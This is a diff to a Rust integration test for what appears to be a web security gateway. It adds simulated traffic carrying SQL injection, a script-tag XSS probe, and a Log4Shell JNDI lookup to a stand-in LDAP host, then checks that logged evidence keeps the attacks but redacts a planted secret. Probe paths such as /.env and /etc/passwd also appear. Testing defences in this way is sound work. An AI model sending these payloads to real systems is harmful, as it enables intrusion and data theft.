@@ -87,6 +87,21 @@ async fn send(gateway: SocketAddr, every: Duration, requests: Vec<(String, Strin
     Ok(())
 }
 
+/// What somebody else than the attacker might have written beside the attack.
+const SECRET: &str = "hunter2horse";
+
+/// A body with an attack and a secret, and its content type.
+fn attack(at: usize) -> (&'static str, String) {
+    match at % 3 {
+        0 => (
+            "application/x-www-form-urlencoded",
+            format!("q=1'+union+select+password+from+users--&password={SECRET}&n={at}"),
+        ),
+        1 => ("application/json", format!(r#"{{"card":"{SECRET}","q":"<script>alert({at})</script>"}}"#)),
+        _ => ("text/plain", format!("<pin>{SECRET}</pin><q>${{jndi:ldap://198.51.100.7/{at}}}</q>")),
+    }
+}
+
 /// Everybody at once; returns when all have gone.
 async fn mixed_run(gateway: SocketAddr, site: SocketAddr) {
     let mut crowd: JoinSet<anyhow::Result<()>> = JoinSet::new();
@@ -117,6 +132,14 @@ async fn mixed_run(gateway: SocketAddr, site: SocketAddr) {
             (browser(&address, "POST", "/login", &form), body)
         };
         crowd.spawn(send(gateway, ms(15), (0..60).map(guess).collect()));
+        let address = format!("198.51.100.{}", 80 + number);
+        let attack = |at: usize| {
+            let (kind, body) = attack(at);
+            let head =
+                format!("Content-Type: {kind}\r\nCookie: sid={SECRET}\r\nContent-Length: {}\r\n", body.len());
+            (browser(&address, "POST", "/contact", &head), body)
+        };
+        crowd.spawn(send(gateway, ms(40), (0..12).map(attack).collect()));
         let address = format!("198.51.100.{}", 20 + number);
         let paths =
             ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/?q=%27%20OR%201=1--", "/etc/passwd"];
@@ -168,6 +191,9 @@ async fn compared(workers: usize) -> Value {
 
     let file = palisade.data().join("events.ndjson").display().to_string();
     palisade.command(&["store", "export", "--out", &file]).await.unwrap();
+    let lines = std::fs::read_to_string(&file).unwrap();
+    assert!(lines.contains("payload.") && lines.contains("union+select"), "attacks are kept as evidence");
+    assert!(!lines.contains(SECRET), "and nothing beside them");
     let printed = palisade.command(&["replay", &file, "--json"]).await.unwrap();
     let report: Value = serde_json::from_str(&printed).unwrap();
     assert_eq!(report["requests"], count("palisade_requests_total "), "{report}");
